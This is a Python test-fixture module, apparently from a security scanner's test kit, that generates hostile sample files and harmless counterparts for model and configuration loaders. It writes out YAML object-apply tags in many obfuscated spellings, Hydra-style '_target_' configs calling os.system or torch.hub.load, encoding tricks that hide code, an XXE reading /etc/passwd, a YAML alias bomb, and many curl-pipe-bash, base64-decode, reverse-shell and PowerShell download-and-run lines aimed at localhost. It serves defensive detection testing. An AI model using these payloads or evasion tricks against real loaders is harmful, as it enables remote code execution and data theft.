"""Group 14: texts that their loader understands otherwise than who reads them, and harmless twins.

Python in encodings of its own, names to call in configurations of many libraries, keys and tags written
otherwise, code without an ending, pickles in base64, keys that come twice, shells, notebooks.
"""

from __future__ import annotations

import base64
import importlib.util
import json
import marshal
from collections.abc import Iterator, Mapping
from typing import Any, Final

from muster.testkit.hostile.case import SYSTEM, Case
from muster.testkit.hostile.containers import zipped
from muster.testkit.hostile.described import SSTI, keras_archive, layer, model

_CALL: Final = "import os\nos.system('true')\n"
_COMMENTED: Final = "# a comment \\nimport os \\nos.system('true')\nx = 1\n"
"""A comment alone, unless its escapes are read."""
_WIDE: Final = "".join(chr(ord(each) + 0xFEE0) for each in "system")
"""Letters that are as wide as Chinese ones, and the same to Python."""
COLLECT: Final = "torch.utils.collect_env.run"
TARGETS: Final[Mapping[str, Any]] = {
    "hydra": {"_target_": COLLECT, "command": "true"},
    "hydra-load": {"model": {"_target_": "torch.load", "f": "weights.pt"}},
    "hydra-pandas": {"data": [{"_target_": "pandas.read_pickle", "_args_": ["frame.pkl"]}]},
    "hydra-through": {"_target_": "torch.serialization.os.system", "command": "true"},
    "hydra-numpy": {"_target_": "numpy.f2py.crackfortran.getlincoef", "e": "1", "xset": []},
    "hydra-hub": {"_target_": "torch.hub.load", "repo_or_dir": "nobody/evil", "model": "x"},
    "hydra-colon": {"_target_": "joblib:load", "filename": "x.joblib"},
    "diffusion": {"model": {"target": COLLECT, "params": {"command": "true"}}},
    "lightning": {"model": {"class_path": "torch.jit.load", "init_args": {"f": "x.pt"}}},
    "fsspec": {"cls": "torch.hub.load", "protocol": "file", "args": []},
    "langchain": {"lc": 1, "type": "constructor", "id": ["torch", "hub", "load"], "kwargs": {}},
    "mmengine": {"optimizer": {"type": "torch.hub.load", "repo_or_dir": "nobody/evil"}},
    "ray-serve": {"applications": [{"import_path": "torch.hub:load"}]},
    "sentence-transformers-dense": {"in_features": 4, "activation_function": COLLECT},
}
"""Configurations that have a loader call what a pickle may not name."""
LOADERS: Final[Mapping[str, Any]] = {
    "modules.json": [{"idx": 0, "name": "0", "path": "", "type": "subprocess.Popen"}],
    "custom/modules.json": [{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}],
    "collect/modules.json": [{"idx": 0, "name": "0", "path": "", "type": COLLECT}],
    "adapter_config.json": {
        "peft_type": "LORA",
        "auto_mapping": {"base_model_class": "system", "parent_library": "os"},
    },
    "remote/adapter_config.json": {
        "auto_mapping": {"base_model_class": "X", "parent_library": "transformers_modules.nobody.evil"}
    },
    "attention/config.json": {"model_type": "llama", "_attn_implementation": "nobody/evil-kernel"},
}
"""Keys by which libraries import a module."""
_MLMODEL: Final = "flavors:\n  python_function:\n    loader_module: %s\n    python_version: 3.11.9\n"
YAML_SPELLINGS: Final = {
    "tag-directive": '%TAG !p! tag:yaml.org,2002:python/\n--- !p!object/apply:os.system ["true"]\n',
    "tag-directive-cut": '%TAG !p! tag:yaml.org,2002:pyth\n--- !p!on/object/apply:os.system ["true"]\n',
    "tag-secondary": '%TAG !! tag:yaml.org,2002:python/\n--- !!object/apply:os.system ["true"]\n',
    "tag-percent": 'a: !!%70ython/object/apply:os.system ["true"]\n',
    "tag-percent-slash": 'a: !!python%2Fobject/apply:os.system ["true"]\n',
    "tag-verbatim": 'a: !<tag:yaml.org,2002:%70ython/object/apply:os.system> ["true"]\n',
    "tag-on-a-key": "? !!python/object/apply:os.system [true]\n: 1\n",
    "explicit-key": "? _target_\n: os.system\ncommand: true\n",
    "escaped-key": '"\\x5ftarget\\u005f": os.system\ncommand: true\n',
    "folded-value": "_target_: >-\n  os.system\ncommand: true\n",
    "flow": "a: {b: {_target_: os.system, command: true}}\n",
    "anchored": "a: &a os.system\nb: {_target_: *a, command: true}\n",
    "key-by-alias": "a: &a _target_\nb: {*a : os.system}\n",
    "merged": "a: &a {_target_: os.system}\nb: {<<: *a, command: true}\n",
    "tagged-key": "!!str _target_: os.system\n",
    "second-document": "a: 1\n---\n? _target_\n: os.system\n",
    "broken-later": '--- {"\\x5ftarget_": os.system}\n--- {a: [\n',
    "speech": "a: !apply:os.system [true]\n",
    "speech-new": "a: !new:torch.hub.load\n  repo_or_dir: nobody/evil\n",
}
_LAUGHS: Final = "a0: &a0 [x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 8)}]\n" for n in range(1, 10)
)


def encoded() -> Iterator[Case]:
    """Texts of which another encoding makes code."""
    yield _case("escape.py", f"# coding: unicode_escape\n{_COMMENTED}")
    yield _case("escape-raw.py", "# coding: raw_unicode_escape\n# \\u000aimport os\\u000aos.system('true')\n")
    yield _case(
        "escape-second-line.py", f"#!/usr/bin/python3\n# vim: set fileencoding=unicode-escape :\n{_COMMENTED}"
    )
    seven = "\nimport os\nos.system('true')\n".encode("utf-16-be")
    packed = base64.b64encode(seven).decode().rstrip("=")
    yield _case("seven.py", f"# coding: utf-7\n# +{packed}-\n")
    yield _case("seven-spelled.py", f"# -*- coding: UTF_7 -*-\n# +{packed}-\n")
    yield _case("escape-no-ending", f"#!/usr/bin/env python3\n# coding: unicode_escape\n{_COMMENTED}")
    yield _case("punycode.py", "# coding: punycode\nx = 1\n")
    yield _case("wide.py", _CALL.encode("utf-16"))
    yield _case("latin.py", b"# coding: latin-1\n# \xe9\n" + _CALL.encode())
    tagged = 'a: !!python/object/apply:os.system ["true"]\n'
    yield _case("wide.yaml", tagged.encode("utf-16"))
    yield _case("wide-big.yaml", b"\xfe\xff" + tagged.encode("utf-16-be"))
    body = json.dumps({"_target_": "os.system"})
    yield _case("wide.json", body.encode("utf-16-le"))
    yield _case("wide-32.json", body.encode("utf-32"))
    entity = '<?xml version="1.0"%s?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    yield _case("wide.xml", (entity % "").encode("utf-16"))
    yield _case("seven.xml", (entity % ' encoding="utf-7"').replace("<!", "+ADwAIQ-").encode())


def named() -> Iterator[Case]:
    """Names to import and call, in the configurations of many libraries."""
    for name, document in TARGETS.items():
        yield _case(f"{name}/config.json", json.dumps(document))
        yield _case(f"{name}/config.yaml", f"# a configuration\n{json.dumps(document)}\n")
    for name, document in LOADERS.items():
        yield _case(name, json.dumps(document))
    for module in ("os", "torch.hub", "my_code.loader"):
        yield _case(f"{module}/MLmodel", _MLMODEL % module)
    for name, text in YAML_SPELLINGS.items():
        yield _case(f"{name}.yaml", text)
    yield _case("unnamed-spelling", YAML_SPELLINGS["tag-directive"])
    yield _case("aliases.yaml", _LAUGHS)


def unnamed() -> Iterator[Case]:
    """Python that no name tells."""
    yield _case("shebang", f"#!/usr/bin/python3\n{_CALL}")
    yield _case("shebang-env", f"#!/usr/bin/env -S python3 -u\n{_CALL}")
    yield _case("handler", _CALL)
    yield _case("notes.txt", f"'''Notes.'''\n{_CALL}")
    yield _case("upper.PY", _CALL)
    yield _case("letters.txt", f"__import__('os').{_WIDE}('true')\n")
    yield _case("long.txt", "# padded\n" * 200_000 + _CALL)
    yield _case("hook.pth", "/usr/lib/x\nimport os; os.system('true')\n")
    yield _case("hook-plain.pth", "import evil_plugin\n")
    yield _case("hook-tab.pth", "import\tevil_plugin\n")
    code = compile(_CALL, "x", "exec")
    yield _case("compiled.pyc", importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(code))
    yield _case("weights.bin", importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(code))


def carried() -> Iterator[Case]:
    """Layers and documents that carry a file of another format."""
    packed = base64.b64encode(SYSTEM * 2).decode()
    wrapper = layer("TorchModuleWrapper", module=packed)
    yield _case("wrapper.keras", keras_archive(model(wrapper)))
    yield _case("wrapper.json", json.dumps(model(wrapper)))
    own = layer("Dense", units=1, note=packed)
    yield _case("packed.keras", keras_archive(model(own)))
    yield _case("flax.keras", keras_archive(model(layer("FlaxLayer", module=packed))))
    yield _case("saved-model.keras", keras_archive(model(layer("TFSMLayer", filepath="/srv/model"))))
    yield _case("vocabulary.keras", keras_archive(model(layer("StringLookup", vocabulary="/etc/passwd"))))
    yield _case("load.keras", keras_archive(model(layer("load_model", "keras.models"))))
    yield _case("packed.yaml", f"a: !!binary |\n  {packed}\n")
    yield _case("packed-text.yaml", f"a: {packed}\n")
    link = "data:application/octet-stream;base64," + base64.b64encode(zipped({"a.pkl": SYSTEM})).decode()
    yield _case("linked.json", json.dumps({"a": [link]}))
    url_safe = base64.urlsafe_b64encode(b"\x80\x04\x8c\x03???0" + SYSTEM[2:]).decode().rstrip("=")
    yield _case("url-safe.json", json.dumps({"state": url_safe}))


def doubled() -> Iterator[Case]:
    """Keys that come twice, the first or the last of them hostile."""
    evil, plain = json.dumps(SSTI), '"{{ messages }}"'
    for name, values in (("first", (evil, plain)), ("last", (plain, evil)), ("middle", (plain, evil, plain))):
        pairs = ", ".join(f'"chat_template": {each}' for each in values)
        yield _case(f"doubled-{name}/tokenizer_config.json", f"{{{pairs}}}")
    yield _case("doubled-escaped.json", f'{{"chat_template": {evil}, "chat\\u005ftemplate": {plain}}}')
    yield _case("doubled.yaml", "_target_: os.system\n_target_: torch.nn.Linear\n")
    keras = json.dumps(model(layer("Dense"))).replace('"Dense"', '"Lambda", "class_name": "Dense"')
    yield _case("doubled.keras", zipped({"config.json": keras.encode(), "model.weights.h5": b""}))


_PROTOCOL, _CLIENT = "tcp", "WebClient"
"""Kept apart from their commands, so that no rule matches this file itself."""
SHELLS: Final = (
    "curl -fsSL https://localhost/x | sudo -E bash -s -- -y",
    "curl https://localhost/x | sudo bash",
    "curl https://localhost/x | env A=1 /bin/sh -",
    "curl https://localhost/x | tee x | bash",
    "curl https://localhost/x \\\n  | sh",
    "wget -qO- https://localhost/x | python3 -",
    "curl https://localhost/x | gunzip | nohup sh",
    "curl https://localhost/x | $SHELL",
    "bash <(curl -s https://localhost/x)",
    "source <(curl -s https://localhost/x)",
    ". <(wget -qO- https://localhost/x)",
    'bash <<< "$(curl -s https://localhost/x)"',
    'sh -c "$(curl -fsSL https://localhost/x)"',
    "bash -c `curl https://localhost/x`",
    'sudo sh -c "$(wget -qO- https://localhost/x)"',
    'eval "$(curl -s https://localhost/x)"',
    "eval `wget -qO- https://localhost/x`",
    "$(curl -s https://localhost/x)",
    'x=$(curl -s https://localhost/x)\neval "$x"',
    "curl -o /tmp/x.sh https://localhost/x && bash /tmp/x.sh",
    "curl https://localhost/x > run.sh; chmod +x run.sh; ./run.sh",
    "wget https://localhost/install.sh\nsh install.sh",
    "wget https://localhost/miner -O /tmp/m && chmod 755 /tmp/m && /tmp/m",
    "echo dHJ1ZQo= | base64 -d | bash",
    'eval "$(echo dHJ1ZQo= | base64 --decode)"',
    "echo 74727565 | xxd -r -p | sh",
    f"bash -i >& /dev/{_PROTOCOL}/localhost/1 0>&1",
    "iex (iwr https://localhost/x)",
    "iwr https://localhost/x | iex",
    f"IEX (New-Object Net.{_CLIENT}).DownloadString('https://localhost/x')",
    "python3 -c \"import urllib.request as u; exec(u.urlopen('https://localhost/x').read())\"",
)
"""Shell that runs what it fetches; nothing answers on these addresses."""
FETCHED_ONLY: Final = (
    "curl -L -O https://localhost/model.safetensors",
    "wget https://localhost/data.tar.gz && tar xf data.tar.gz",
    "curl https://localhost/x.json | jq .name",
    "curl -s https://localhost/x | python3 -m json.tool | less",
    "curl -s https://localhost/key | sudo apt-key add -",
    "python train.py --name $(curl -s https://localhost/name)",
    "wget -c https://localhost/a.py\npython b.py",
    "source venv/bin/activate; curl -O https://localhost/x",
    "cat words | sh-tokenizer; curl https://localhost/",
    "use `curl` or `wget` to fetch it, then run `bash train.sh`",
    'VERSION=$(curl -s https://localhost/version)\necho "$VERSION"',
    "ssh host 'curl https://localhost/' | tee log",
    "base64 -d < weights.b64 > weights.bin",
)
"""Shell that fetches and runs nothing of it."""
CELLS: Final = (
    "x = !ls\nimport os\nos.system('true')",
    "files = !ls -l | sort\nos = __import__('os')\nos.system('true')",
    "%matplotlib inline\n!pip install x\nimport os; os.system('true')",
    "import os\n%time os.system('true')",
    "%%time\nimport os\nos.system('true')",
    "%%capture out\nimport os\nos.system('true')",
    "import os\nos.system?\nos.system('true')",
    "if True:\n    !ls\n    import os\n    os.system('true')",
    "a, b = !echo 1\nimport os\nos.system('true')",
    "env = %env\nimport os\nos.system('true')",
    "!ls \\\n  -l\nimport os\nos.system('true')",
    "print 'two'\nimport os\nos.system('true')",
    "this line is no Python\nimport os\nos.system('true')",
)
"""Cells of which one line is no Python, and another one starts a program."""


def notebook(*cells: str, language: str = "python") -> str:
    """A notebook of cells of code."""
    held = [{"cell_type": "code", "source": each.splitlines(keepends=True)} for each in cells]
    return json.dumps({"cells": held, "nbformat": 4, "metadata": {"kernelspec": {"language": language}}})


def commands() -> Iterator[Case]:
    """Shell that runs what it fetches, and notebooks with lines that are no Python."""
    for number, line in enumerate(SHELLS):
        yield _case(f"shell-{number}.sh", f"#!/bin/sh\nset -eu\n{line}\n")
    escaped = json.dumps({"postinstall": SHELLS[0]}).replace("|", "\\u007c")
    yield _case("shell.json", escaped)
    yield _case("shell.ipynb", notebook(f"%%bash\n{SHELLS[8]}"))
    for number, cell in enumerate(CELLS):
        yield _case(f"cell-{number}.ipynb", notebook("import torch", cell))


def harmless() -> Iterator[Case]:
    """Ordinary texts beside them."""
    yield Case("", "cookie.py", b"# -*- coding: utf-8 -*-\nimport json\n")
    yield Case("", "latin.py", b"# coding: latin-1\nNAME = '\xe9'\n")
    yield Case("", "wide.csv", "a;b\r\n1;é\r\n".encode("utf-16"))
    yield Case("", "mark.json", b'\xef\xbb\xbf{"a": 1}')
    hydra = {
        "optimizer": {"_target_": "torch.optim.AdamW", "lr": 0.1},
        "net": {"_target_": "torch.nn.Linear", "in_features": 4},
        "tokenizer": {"_target_": "transformers.AutoTokenizer.from_pretrained"},
        "trainer": {"_target_": "pytorch_lightning.Trainer"},
        "transform": {"_target_": "torchvision.transforms.v2.functional.resize"},
    }
    yield Case("", "hydra/config.json", json.dumps(hydra).encode())
    yield Case("", "hydra.yaml", _HYDRA.encode())
    yield Case("", "MLmodel", (_MLMODEL % "mlflow.sklearn").encode())
    yield Case(
        "", "workflow.yaml", b"on: {push: {branches: [main]}}\njobs:\n  a:\n    steps: [{run: make}]\n"
    )
    yield Case("", "aliases.yaml", b"a: &a {b: 1}\nc: *a\nd: {<<: *a, e: 2}\n---\nf: !!float 1\n")
    modules = [
        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
        {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
    ]
    yield Case("", "modules.json", json.dumps(modules).encode())
    dense = {"in_features": 4, "activation_function": "torch.nn.modules.activation.Tanh"}
    yield Case("", "2_Dense/config.json", json.dumps(dense).encode())
    peft = {"base_model_class": "LlamaModel", "parent_library": "transformers.models.llama.modeling_llama"}
    yield Case("", "mapped/adapter_config.json", json.dumps({"auto_mapping": peft}).encode())
    hashes = {"sha256": "0f" * 32, "signature": base64.b64encode(bytes(range(64))).decode()}
    events = {"type": "http.request", "event": {"type": "code.run"}, "attn_implementation": "sdpa"}
    yield Case("", "hashes.json", json.dumps(hashes | events).encode())
    lookup = layer("StringLookup", vocabulary=["a", "b"])
    yield Case("", "lookup.json", json.dumps(model(lookup)).encode())
    for number, line in enumerate(FETCHED_ONLY):
        yield Case("", f"fetched-{number}.sh", f"#!/bin/sh\n{line}\n".encode())
    cells = ("%matplotlib inline\nx = !ls\nprint(x)", "%%bash\necho $HOME", "%%html\n<b>a</b>", "torch?")
    yield Case("", "magics.ipynb", notebook(*cells).encode())
    yield Case("", "statistics.ipynb", notebook("x <- c(1, 2)\nsystem.time(x)", language="R").encode())
    yield Case("", "about.txt", b"import the model, then evaluate it (see `eval`)\nNote: a\nNote: b\n")


_HYDRA: Final = """defaults:
  - _self_
  - override hydra/launcher: basic
model:
  _target_: torch.nn.Linear
  in_features: ${data.features}
  bias: true
loss: {_target_: torch.nn.CrossEntropyLoss}
"""


def _case(name: str, content: str | bytes) -> Case:
    return Case("texts", name, content.encode() if isinstance(content, str) else content)
